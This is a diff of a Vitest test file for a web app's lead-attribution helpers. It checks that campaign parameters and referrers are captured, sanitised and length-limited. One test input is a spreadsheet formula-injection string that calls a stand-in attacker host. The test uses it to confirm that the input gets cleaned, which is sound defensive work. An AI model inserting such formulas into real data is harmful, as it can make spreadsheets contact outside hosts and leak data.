@@ -1,8 +1,8 @@
 import { describe, expect, it } from 'vitest'
 import { getAttribution, parseAttribution } from '@/lib/leads/shared/attribution'
 
-describe('where a visit came from', () => {
-  it('is read off its first address and the page before', () => {
+describe('getAttribution', () => {
+  it('takes campaign parameters and path of the first page, and the referrer', () => {
     const address = new URL(
       'https://px.example/book-demo?utm_source=flyer&gclid=g1&name=Ana&services=chat-agent',
     )
@@ -14,7 +14,7 @@ describe('where a visit came from', () => {
     })
   })
 
-  it('is read off the page before where the visit went on before its first page could note it', () => {
+  it('takes them from the referrer if the visitor left the first page before it was stored', () => {
     const address = new URL('https://px.example/book-demo')
     expect(getAttribution(address, 'https://px.example/?utm_source=flyer')).toEqual({
       utm_source: 'flyer',
@@ -25,8 +25,10 @@ describe('where a visit came from', () => {
       landing_path: '/book-demo',
     })
   })
+})
 
-  it('is cleaned like other text', () => {
+describe('parseAttribution', () => {
+  it('cleans values like other text', () => {
     const sent = {
       utm_source: ' fly\u0000er\u202e\n ',
       utm_term: '=IMPORTDATA("http://evil.example")',
@@ -41,7 +43,7 @@ describe('where a visit came from', () => {
     })
   })
 
-  it('is bounded, whatever arrives', () => {
+  it('limits values, ignores unknown entries and accepts any input', () => {
     const sent = {
       utm_source: 'x'.repeat(999),
       fbclid: 'f',
